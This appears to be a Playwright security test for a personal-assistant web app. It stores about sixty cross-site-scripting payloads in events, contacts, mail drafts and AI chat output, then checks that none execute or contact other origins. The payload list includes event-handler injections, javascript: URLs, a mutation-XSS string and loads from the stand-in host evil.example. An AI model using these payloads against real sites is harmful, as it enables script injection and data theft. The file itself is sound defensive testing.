/**
 * R37: sixty texts that want to become scripts, in every place that shows what somebody typed, sent or was told by a model. No script runs,
 * nothing is asked of another origin, and what was typed stands on the page as it was typed.
 */
import type { Page } from "@playwright/test";
import { startModelServer, type ModelServer } from "../support/model-server";
import { expect, newAccount, say, signUp, test } from "./support/journey";
import { startOwnServer, type OwnServer } from "./support/own-server";

const elsewhere = "https://evil.example";
const run = "window.pwned('ran')";
const handlers = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "onpageshow"];
const elements = ["img src=x", "svg", "body", "details open", "iframe srcdoc=x"];
const payloads = [
  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}="${run}">`)),
  `<script>${run}</script>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<img src="${elsewhere}/pixel.png">`,
  `<a href="javascript:${run}">press</a>`,
  `[press](javascript:${run})`,
  `![seen](${elsewhere}/pixel.png)`,
  `"><img src=x onerror=${run}>`,
  `</textarea><script>${run}</script>`,
  `{{constructor.constructor("${run}")()}}`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<link rel=stylesheet href="${elsewhere}/x.css"><style>@import "${elsewhere}/y.css"</style>`,
];

let models: ModelServer;
let server: OwnServer;
interface Watched {
  readonly ran: string[];
  readonly asked: string[];
}

/** From now on: every script of theirs that ran, and whatever was asked of somebody else. */
const watch = async (page: Page, own?: string): Promise<Watched> => {
  const seen: Watched = { ran: [], asked: [] };
  await page.exposeFunction("pwned", (what: string) => seen.ran.push(what));
  page.on("dialog", (dialog) => {
    seen.ran.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (/^https?:$/.test(url.protocol) && url.origin !== own) seen.asked.push(request.url());
  });
  return seen;
};

/** Whatever waits for a pointer or the focus gets it. */
const touchEverything = (page: Page): Promise<void> =>
  page.evaluate(() => {
    for (const element of document.querySelectorAll("img, svg, details, iframe, a[href^='javascript']"))
      for (const type of ["mouseover", "pointerenter", "focus", "toggle"]) element.dispatchEvent(new Event(type, { bubbles: true }));
  });

const fill = async (page: Page): Promise<{ link: string }> => {
  const send = async (method: "post" | "patch", path: string, data: unknown): Promise<Record<string, unknown>> => {
    const answer = await page.request[method](`${server.address}${path}`, { data, headers: { origin: server.address } });
    expect(answer.status(), `${path} ${await answer.text()}`).toBeLessThan(300);
    return (await answer.json()) as Record<string, unknown>;
  };
  const startMs = Math.ceil(Date.now() / 3_600_000) * 3_600_000;
  for (const [n, text] of payloads.entries()) {
    const start = new Date(startMs + n * 1_800_000).toISOString();
    const end = new Date(startMs + n * 1_800_000 + 1_500_000).toISOString();
    await send("post", "/api/events", { title: text, description: text, location: text, start, end });
    await send("post", "/api/contacts", { name: text.slice(0, 120), notes: text });
    await send("post", "/api/memories", { text: `${n} ${text}` });
    await send("post", "/api/tasks", { title: text, notes: text });
    await send("post", "/api/mails/drafts", { to: [{ email: "tom@example.com", name: text }], subject: text, body: text });
  }
  await send("patch", "/api/settings/profile", { name: `Ada ${payloads[10]}`, delegateName: "<b>Perin</b>" });
  const made = await send("post", "/api/links", { name: payloads[1], purpose: payloads[57], questions: [{ id: "q", label: payloads[56] }] });
  return { link: new URL(String(made.address)).pathname };
};

/** Each page that shows what others typed, and a text that stands on it once what it reads has come. */
const pages: Readonly<Record<string, string>> = {
  "/today": "<img src=x on",
  "/calendar": "<img src=x on",
  "/contacts": "<img src=x on",
  "/memory": "<img src=x on",
  "/tasks": "<img src=x on",
  "/links": "<img src=x on",
  "/history": "<img src=x on",
  "/settings": "How it speaks",
};

test.describe("on a server with a model", () => {
  test.beforeAll(async () => {
    models = await startModelServer();
    server = await startOwnServer({ OPENAI_BASE_URL: models.baseUrl, OPENAI_MODEL: "scripted", MODEL_ORDER: "openai-compatible,builtin" });
  });
  test.afterAll(async () => {
    await server.stop();
    await models.close();
  });

  test("sixty texts that want to be scripts stay texts, wherever they are shown", async ({ page }) => {
    expect(payloads.length).toBeGreaterThanOrEqual(60);
    await signUp(page.request, newAccount(), server.address);
    const { link } = await fill(page);
    const seen = await watch(page, server.address);

    for (const [path, text] of [...Object.entries(pages), [link, "Ada"] as const]) {
      await page.goto(`${server.address}${path}`);
      await expect(page.locator("body")).toContainText(text, { useInnerText: true });
      await touchEverything(page);
    }
    await page.goto(`${server.address}/mail`);
    await page
      .getByRole("navigation", { name: "Folders" })
      .getByRole("button", { name: /^Drafts/ })
      .click();
    await expect(page.getByTestId("mail-row").first()).toContainText("<link rel=stylesheet");
    await touchEverything(page);
    await page.getByTestId("mail-row").first().click();
    await touchEverything(page);

    // A model is told to write them, all at once, as Markdown.
    await page.goto(`${server.address}/chat`);
    models.enqueue({ text: payloads.join("\n\n"), piece: 400 });
    await say(page, payloads[50] ?? "");
    await touchEverything(page);
    await expect(page.getByTestId("ai-response").last().locator("img, iframe, script, [href^='javascript']")).toHaveCount(0);
    await page.reload();
    await expect(page.getByTestId("ai-response").last()).toBeVisible();
    await touchEverything(page);

    expect(seen).toEqual({ ran: [], asked: [] });
  });
});

test("the known-bad twin, which writes the same texts into a page as they are, runs scripts and asks others", async ({ page }) => {
  const seen = await watch(page);
  await page.setContent("<main></main>");
  // One text after the other: some of them swallow what follows.
  for (const text of payloads) {
    await page.evaluate((html) => document.querySelector("main")?.replaceChildren(document.createRange().createContextualFragment(html)), text);
    await touchEverything(page);
  }
  await expect.poll(() => [seen.ran.length > 10, seen.asked.length > 0]).toEqual([true, true]);
});
